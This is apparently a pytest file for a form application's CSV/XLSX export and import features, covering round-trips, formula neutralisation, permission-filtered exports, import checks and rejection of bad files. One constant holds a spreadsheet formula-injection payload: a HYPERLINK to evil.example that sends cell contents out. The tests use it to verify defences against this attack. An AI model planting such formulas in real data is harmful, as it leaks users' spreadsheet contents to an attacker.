"""Export to and import from CSV/XLSX (formflow.records.transfer), on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from formflow.definitions.service import get_form, publish
from formflow.definitions.spec import compile_spec
from formflow.errors import BadRequest, FormflowError, NotFound
from formflow.fields import field_types
from formflow.people import service as people
from formflow.people.models import User
from formflow.records import service as records
from formflow.records import transfer
from formflow.records.display import WorkDisplay
from formflow.records.prepare import from_document
from formflow.records.query import Filter, Query, Sort, list_records
from formflow.records.transfer import ImportMode, RowStatus
from tests.conftest import grant, snapshot


def label(zh: str, en: str) -> dict[str, str]:
    return {"zh-CN": zh, "en": en}


CUSTOMER = {
    "title": "客户",
    "x-label": label("客户", "Customer"),
    "type": "object",
    "properties": {
        "name": {"x-field": "text", "type": "string", "x-label": label("名称", "Name")},
    },
    "x-form": {"title_field": "name"},
}

VISIT: dict[str, Any] = {
    "title": "拜访记录",
    "x-label": label("拜访记录", "Visit"),
    "type": "object",
    "properties": {
        "subject": {
            "x-field": "text",
            "type": "string",
            "x-label": label("主题", "Subject"),
            "x-unique": True,
        },
        "notes": {"x-field": "textarea", "type": "string", "x-label": label("备注", "Notes")},
        "phone": {"x-field": "phone", "type": "string", "x-label": label("电话", "Phone")},
        "amount": {
            "x-field": "money",
            "type": "number",
            "x-label": label("金额", "Amount"),
            "minimum": 0,
        },
        "quantity": {"x-field": "number", "type": "integer", "x-label": label("数量", "Quantity")},
        "ratio": {"x-field": "percent", "type": "number", "x-label": label("比例", "Share")},
        "score": {"x-field": "rating", "type": "integer", "x-label": label("评分", "Score")},
        "visited_on": {
            "x-field": "date",
            "type": "string",
            "format": "date",
            "x-label": label("拜访日期", "Visited on"),
        },
        "meeting_at": {
            "x-field": "datetime",
            "type": "string",
            "format": "date-time",
            "x-label": label("会议时间", "Meeting at"),
        },
        "stage": {
            "x-field": "select",
            "type": "string",
            "enum": ["open", "won"],
            "x-options": [
                {"value": "open", "label": label("进行中", "Open")},
                {"value": "won", "label": label("赢单", "Won")},
            ],
            "x-label": label("阶段", "Stage"),
        },
        "tags": {
            "x-field": "multi-select",
            "type": "array",
            "items": {"type": "string", "enum": ["vip", "new", "cold"]},
            "uniqueItems": True,
            "x-options": [
                {"value": "vip", "label": label("重要", "VIP")},
                {"value": "new", "label": label("新客", "New")},
            ],
            "x-label": label("标签", "Tags"),
        },
        "done": {"x-field": "boolean", "type": "boolean", "x-label": label("完成", "Done")},
        "rep": {"x-field": "member", "type": "integer", "x-label": label("销售", "Rep")},
        "helpers": {
            "x-field": "members",
            "type": "array",
            "items": {"type": "integer"},
            "uniqueItems": True,
            "x-label": label("协助", "Helpers"),
        },
        "team": {"x-field": "department", "type": "integer", "x-label": label("部门", "Team")},
        "customer": {
            "x-field": "relation",
            "type": "integer",
            "x-relation": {"form": "customer"},
            "x-label": label("客户", "Customer"),
        },
        "lines": {
            "x-field": "subform",
            "type": "array",
            "x-label": label("明细", "Lines"),
            "items": {
                "type": "object",
                "properties": {
                    "product": {"x-field": "text", "type": "string", "title": "Product"},
                    "qty": {"x-field": "number", "type": "integer", "title": "Qty"},
                },
            },
        },
        "total": {
            "x-field": "formula",
            "type": "number",
            "x-result": "money",
            "x-formula": "amount * quantity",
            "x-label": label("总额", "Total"),
        },
    },
    "required": ["subject"],
}


@dataclass
class World:
    admin: User
    alice: User
    bob: User
    north: int
    south: int
    acme: int
    beta: int


def build_world(runtime: Any, make_app: Any, password: str | None = None) -> World:
    """Forms demo.customer, demo.visit and its empty copy demo.visit_copy; people with a
    shared display name ("Zhang Wei") and two departments; two customers."""
    make_app("demo")
    with runtime.write() as work:
        for name, definition in (
            ("demo.customer", CUSTOMER),
            ("demo.visit", VISIT),
            ("demo.visit_copy", VISIT),
        ):
            publish(work, name, definition)
        admin = people.create_user(work, "boss", is_admin=True, password=password)
        alice = people.create_user(work, "alice", display_name="Alice Wang", password=password)
        bob = people.create_user(work, "bob", display_name="Bob Li")
        for username in ("zhang1", "zhang2"):
            people.create_user(work, username, display_name="Zhang Wei")
        north = people.create_department(work, "North").id
        south = people.create_department(work, "South").id
        customers = get_form(work, "demo.customer")
        acme = records.create(work, customers, {"name": "ACME 公司"}).id
        beta = records.create(work, customers, {"name": "Beta"}).id
    return World(admin, alice, bob, north, south, acme, beta)


@pytest.fixture
def world(runtime, make_app) -> World:
    return build_world(runtime, make_app)


def visit(runtime, actor: User, **data: Any) -> int:
    with runtime.write(actor) as work:
        return records.create(work, get_form(work, "demo.visit"), data).id


def export_bytes(runtime, actor: User, kind: str, query: Query | None = None, **options) -> bytes:
    with runtime.read(actor) as work:
        loaded = get_form(work, "demo.visit")
        display = WorkDisplay(work, "en", "demo")
        export = transfer.export_records(work, loaded, query or Query(), display, **options)
        out = io.BytesIO()
        (transfer.write_csv if kind == "csv" else transfer.write_xlsx)(export, out)
    return out.getvalue()


def upload(runtime, actor: User, form: str, content: bytes, name: str) -> transfer.Upload:
    with runtime.read(actor) as work:
        return transfer.save_upload(work, get_form(work, form), io.BytesIO(content), name)


def run(runtime, actor: User, form: str, saved: transfer.Upload, mode: ImportMode):
    with runtime.write(actor) as work:
        loaded = get_form(work, form)
        fields = transfer.importable_fields(work, loaded)
        mapping = transfer.read_mapping(fields, transfer.suggest_mapping(saved.headers, fields))
        return transfer.run_import(work, loaded, saved, mapping, mode)


def values(runtime, form: str) -> list[dict[str, Any]]:
    with runtime.read() as work:
        loaded = get_form(work, form)
        page = list_records(work, loaded.spec, loaded.form.id, Query(sort=[Sort("subject")]))
        return [from_document(loaded.spec, r.data) for r in page.records]


INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_copy_gives_the_same_values(runtime, world, kind):
    visit(
        runtime,
        world.admin,
        subject=INJECTION,
        notes="第一行\n第二行, with a comma",
        phone="13800138000",
        amount="1234.50",
        quantity=3,
        ratio="12.5%",
        score=4,
        visited_on="2026-03-31",
        meeting_at="2026-03-31T14:30:05+08:00",
        stage="won",
        tags=["vip", "new"],
        done=True,
        rep=world.alice.id,
        helpers=[world.alice.id, world.bob.id],
        team=world.north,
        customer=world.acme,
        lines=[{"product": "A", "qty": 2}],
    )
    visit(runtime, world.admin, subject="-5 度 cold call", amount="0.10", ratio="0.5", done=False)
    visit(runtime, world.admin, subject="Beta 拜访", customer=world.beta, rep=world.bob.id)
    content = export_bytes(runtime, world.admin, kind)
    saved = upload(runtime, world.admin, "demo.visit_copy", content, f"visits.{kind}")
    report = run(runtime, world.admin, "demo.visit_copy", saved, ImportMode.ALL_OR_NOTHING)
    assert (report.created, report.invalid) == (3, 0), report.rows
    # Subforms are exported as a summary column and not imported; everything else is equal.
    originals = [
        {k: v for k, v in row.items() if k != "lines"} for row in values(runtime, "demo.visit")
    ]
    copies = values(runtime, "demo.visit_copy")
    assert copies == originals
    assert {"subject": INJECTION, "amount": Decimal("1234.50")}.items() <= copies[1].items()


def test_exports_neutralise_formulas_in_csv_and_xlsx(runtime, world):
    visit(runtime, world.admin, subject=INJECTION, notes="@SUM(1+1)", phone="+86 138", amount="-0")
    text = export_bytes(runtime, world.admin, "csv")
    assert text.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the Chinese right
    header, row = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert header[:2] == ["ID", "Subject"]
    assert row[1] == "'" + INJECTION
    assert row[header.index("Notes")] == "'@SUM(1+1)"
    assert row[header.index("Phone")] == "'+86 138"
    sheet = load_workbook(io.BytesIO(export_bytes(runtime, world.admin, "xlsx"))).active
    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # no cell is a formula
    subject = sheet.cell(row=2, column=2)
    assert (subject.value, subject.data_type) == ("'" + INJECTION, "s")
    amount = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("Amount") + 1)
    assert amount.data_type == "n" and amount.number_format == '"¥"#,##0.00'


def test_xlsx_keeps_numbers_and_dates_typed_and_subforms_summarised(runtime, world):
    visit(
        runtime,
        world.admin,
        subject="typed",
        amount="1234.5",
        quantity=2,
        ratio="0.125",
        visited_on="2026-03-31",
        lines=[{"product": "A", "qty": 2}, {"product": "B"}],
    )
    sheet = load_workbook(io.BytesIO(export_bytes(runtime, world.admin, "xlsx"))).active
    row = {h.value: c for h, c in zip(sheet[1], sheet[2], strict=True)}
    assert row["Amount"].value == 1234.5 and row["Total"].value == 2469
    assert row["Share"].value == 0.125 and row["Share"].number_format == "0.0%"
    assert row["Visited on"].value == dt.datetime(2026, 3, 31)
    assert row["Visited on"].number_format == "yyyy-mm-dd"
    assert row["Lines"].value == "Product: A; Qty: 2\nProduct: B"
    assert row["Created"].value == dt.datetime(2026, 3, 16, 10, 0)  # the organisation's zone


def test_exports_leave_out_hidden_fields_and_keep_to_the_readers_rows(runtime, world):
    with runtime.write() as work:
        role = people.ensure_role(work, "rep", "Rep")
        people.set_roles(work, world.alice.id, [role.id])
        people.set_roles(work, world.bob.id, [role.id])
    grant(
        runtime,
        "demo.visit",
        {
            "role": "rep",
            "actions": ["view", "create", "export"],
            "scope": "own",
            "fields": {"amount": "hidden", "notes": "hidden"},
        },
    )
    visit(runtime, world.alice, subject="mine", phone="13800000001")
    visit(runtime, world.bob, subject="theirs", phone="13800000002")
    visit(runtime, world.admin, subject="secret", amount="99999.99", notes="private")
    text = export_bytes(runtime, world.alice, "csv").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text))
    assert "Amount" not in header and "Notes" not in header
    assert [r[1] for r in rows] == ["mine"]
    sheet = load_workbook(io.BytesIO(export_bytes(runtime, world.alice, "xlsx"))).active
    assert [c.value for c in sheet[1]] == header
    assert sheet.max_row == 2
    everything = export_bytes(runtime, world.admin, "csv").decode("utf-8-sig")
    assert "99999.99" in everything and "Amount" in everything


def test_an_export_follows_the_list_query_and_refuses_more_than_its_limit(runtime, world):
    for name in ("a", "b", "c"):
        visit(runtime, world.admin, subject=name, stage="won" if name != "b" else "open")
    won = Query(filters=[Filter("stage", "eq", "won")], sort=[Sort("subject", True)])
    _header, *rows = csv.reader(
        io.StringIO(export_bytes(runtime, world.admin, "csv", won).decode())
    )
    assert [r[1] for r in rows] == ["c", "a"]
    with pytest.raises(BadRequest) as refused:
        export_bytes(runtime, world.admin, "csv", limit=2)
    assert refused.value.errors[0].code == "too_many"
    assert refused.value.errors[0].params == {"count": 3, "limit": 2}


CHECKED = (
    "Subject,Amount,Rep,Customer,Visited on,Stage,Notes\n"
    "Good one,10,Alice Wang,ACME 公司,2026/3/31,Open,\n"
    "Bad amount,abc,alice,ACME 公司,2026-03-31,won,\n"
    ",1,Zhang Wei,No such customer,31.03.2026,lost,\n"
    "\n"  # blank rows are skipped, but counted in the row numbers
    "Good one,2,bob,#999999,,,\n"
    "Taken,3,nobody,,,,\n"
)


def column_errors(outcome: transfer.RowOutcome) -> dict[int | None, list[str]]:
    return {column: [e.code for e in errors] for column, errors in outcome.errors.items()}


def test_a_check_lists_every_problem_by_row_and_column_and_stores_nothing(runtime, world):
    visit(runtime, world.admin, subject="Taken")
    saved = upload(runtime, world.admin, "demo.visit", CHECKED.encode(), "visits.csv")
    before = snapshot(runtime)
    report = run(runtime, world.admin, "demo.visit", saved, ImportMode.CHECK)
    assert snapshot(runtime) == before
    assert (report.total, report.valid, report.invalid, report.created) == (5, 1, 4, 0)
    assert [(r.number, r.status) for r in report.rows] == [
        (2, RowStatus.VALID),
        (3, RowStatus.INVALID),
        (4, RowStatus.INVALID),
        (6, RowStatus.INVALID),
        (7, RowStatus.INVALID),
    ]
    good, bad_amount, many, repeated, taken = report.rows
    assert good.cells[4] == "2026/3/31"
    assert column_errors(bad_amount) == {1: ["type"]}
    assert column_errors(many) == {
        0: ["required"],
        2: ["ambiguous_user"],
        3: ["unknown_record"],
        4: ["format"],
        5: ["enum"],
    }
    assert many.errors[2][0].message == "2 users are named 'Zhang Wei'; use a unique name or #id"
    # Row 6 repeats row 2's unique subject: found because row 2 is really inserted first.
    assert column_errors(repeated) == {3: ["reference"]}  # the pipeline's check of #999999
    # The pipeline still runs without the unreadable cell, so every other problem shows.
    assert column_errors(taken) == {2: ["unknown_user"], 0: ["unique"]}
    fixed = CHECKED.replace("Taken,3,nobody", "Taken,3,bob").replace("#999999", f"#{world.acme}")
    again = run(
        runtime,
        world.admin,
        "demo.visit",
        upload(runtime, world.admin, "demo.visit", fixed.encode(), "visits.csv"),
        ImportMode.CHECK,
    )
    by_number = {r.number: column_errors(r) for r in again.rows}
    assert by_number[6] == {0: ["unique"]}  # the same value earlier in the file
    assert by_number[7] == {0: ["unique"]}  # a value already stored
    assert snapshot(runtime) == before


def test_all_or_nothing_refuses_a_file_with_one_bad_row(runtime, world):
    content = b"Subject,Amount\nfirst,1\nsecond,-5\nthird,3\n"
    saved = upload(runtime, world.admin, "demo.visit", content, "visits.csv")
    before = snapshot(runtime)
    report = run(runtime, world.admin, "demo.visit", saved, ImportMode.ALL_OR_NOTHING)
    assert (report.created, report.valid, report.invalid) == (0, 2, 1)
    assert column_errors(report.rows[1]) == {1: ["minimum"]}
    assert snapshot(runtime) == before


def test_valid_rows_only_imports_the_rest(runtime, world):
    content = "主题,金额,销售\nfirst,1,alice\nfirst,2,bob\nsecond,x,bob\nthird,3,Bob Li\n".encode()
    saved = upload(runtime, world.admin, "demo.visit", content, "visits.csv")
    report = run(runtime, world.admin, "demo.visit", saved, ImportMode.VALID_ONLY)
    assert (report.created, report.invalid) == (2, 2)
    stored = values(runtime, "demo.visit")
    assert [(v["subject"], v["amount"], v["rep"]) for v in stored] == [
        ("first", Decimal("1.00"), world.alice.id),
        ("third", Decimal("3.00"), world.bob.id),
    ]


def workbook_bytes(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_spreadsheet_cells_become_exact_values():
    spec = compile_spec(VISIT, field_types, name="demo.visit")
    f = spec.by_key
    assert transfer.import_value(None, f["amount"], 0.1) == Decimal("0.1")
    assert transfer.import_value(None, f["amount"], 1.1 + 2.2) == Decimal("3.3")
    assert transfer.import_value(None, f["amount"], "¥ 1,234.50") == "1,234.50"
    assert transfer.import_value(None, f["ratio"], 0.125) == Decimal("0.125")
    assert transfer.import_value(None, f["score"], "★★★☆☆") == 3
    assert transfer.import_value(None, f["phone"], 13800138000) == "13800138000"
    assert transfer.import_value(None, f["phone"], 13800138000.0) == "13800138000"
    assert transfer.import_value(None, f["visited_on"], dt.datetime(2026, 3, 31)) == "2026-03-31"
    assert transfer.import_value(None, f["visited_on"], 46112) == "2026-03-31"  # Excel serial
    assert transfer.import_value(None, f["visited_on"], "2026年3月31日") == "2026-03-31"
    moment = transfer.import_value(None, f["meeting_at"], "2026/3/31 14:30")
    assert moment == dt.datetime(2026, 3, 31, 14, 30)
    assert transfer.import_value(None, f["stage"], "赢单") == "won"
    assert transfer.import_value(None, f["tags"], "VIP，新客") == ["vip", "new"]
    assert transfer.import_value(None, f["subject"], "'=1+1") == "=1+1"
    assert transfer.import_value(None, f["subject"], "  ") is None


def test_xlsx_import_reads_typed_cells_and_gb18030_csv(runtime, world):
    content = workbook_bytes(
        [
            ["Subject", "Amount", "Visited on", "Team", "Done"],
            ["book", 0.1, dt.datetime(2026, 3, 31), "South", True],
        ]
    )
    saved = upload(runtime, world.admin, "demo.visit", content, "book.xlsx")
    assert saved.rows == 1
    report = run(runtime, world.admin, "demo.visit", saved, ImportMode.ALL_OR_NOTHING)
    assert report.created == 1, report.rows
    gbk = "主题;部门\n记录;North\n".encode("gb18030")  # Excel's "CSV" on a Chinese Windows
    saved = upload(runtime, world.admin, "demo.visit", gbk, "gbk.csv")
    assert (saved.encoding, saved.delimiter, saved.headers) == ("gb18030", ";", ["主题", "部门"])
    assert run(runtime, world.admin, "demo.visit", saved, ImportMode.VALID_ONLY).created == 1
    stored = {v["subject"]: v for v in values(runtime, "demo.visit")}
    assert stored["book"]["amount"] == Decimal("0.10") and stored["book"]["done"] is True
    assert stored["book"]["visited_on"] == "2026-03-31" and stored["book"]["team"] == world.south
    assert stored["记录"]["team"] == world.north


BAD_FILES = [
    ("book.xlsx", b"not a workbook at all", "malformed"),
    ("book.xlsx", b"PK\x03\x04 a broken zip", "malformed"),
    ("book.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 ole", "legacy_xls"),
    ("old.xls", b"whatever", "legacy_xls"),
    ("notes.pdf", b"%PDF-1.7", "unsupported"),
    ("data.csv", b"a,b\n1,\x002\n", "malformed"),
    ("data.csv", b"\xff\xfe\x80 not text", "encoding"),
    ("data.csv", b"", "empty"),
    ("data.csv", b"\n \n", "empty"),
    ("data.csv", "主题,金额\n".encode(), "no_rows"),
    ("big.csv", b"a\n" + b"x\n" * (1024 * 1024 + 1), "file_size"),
]


def test_unreadable_files_are_refused_naming_the_problem_and_nothing_is_kept(runtime, world):
    folder = runtime.config.instance_path / "imports"
    for name, content, code in BAD_FILES:
        with pytest.raises(FormflowError) as refused:
            upload(runtime, world.admin, "demo.visit", content, name)
        assert [e.code for e in refused.value.errors] == [code], name
        assert list(folder.iterdir()) == [], name
    with runtime.read(world.admin) as work:
        fields = transfer.importable_fields(work, get_form(work, "demo.visit"))
    assert [f.key for f in fields if f.key in ("lines", "total")] == []
    with pytest.raises(BadRequest) as twice:
        transfer.read_mapping(fields, {0: "subject", 1: "", 2: "subject"})
    assert twice.value.errors[0].params == {"columns": "A, C"}


def test_an_upload_is_its_owners_alone_and_gone_after_discarding(runtime, world):
    saved = upload(runtime, world.admin, "demo.visit", b"Subject\nx\n", "a.csv")
    with runtime.write() as work:
        other = people.create_user(work, "other_admin", is_admin=True)
    with runtime.read(other) as work, pytest.raises(NotFound):
        transfer.open_upload(work, get_form(work, "demo.visit"), saved.token)
    with runtime.read(world.admin) as work, pytest.raises(NotFound):
        transfer.open_upload(work, get_form(work, "demo.visit_copy"), saved.token)
    with runtime.read(world.admin) as work:
        assert transfer.open_upload(work, get_form(work, "demo.visit"), saved.token).rows == 1
    with transfer.claimed(saved):  # one import at a time: a second click finds it taken
        with pytest.raises(NotFound), transfer.claimed(saved):
            pass
        with runtime.read(world.admin) as work, pytest.raises(NotFound):
            transfer.open_upload(work, get_form(work, "demo.visit"), saved.token)
    with transfer.claimed(saved):
        pass  # released again: an import that stored nothing can be run again
    transfer.discard_upload(saved)
    with runtime.read(world.admin) as work, pytest.raises(NotFound):
        transfer.open_upload(work, get_form(work, "demo.visit"), saved.token)
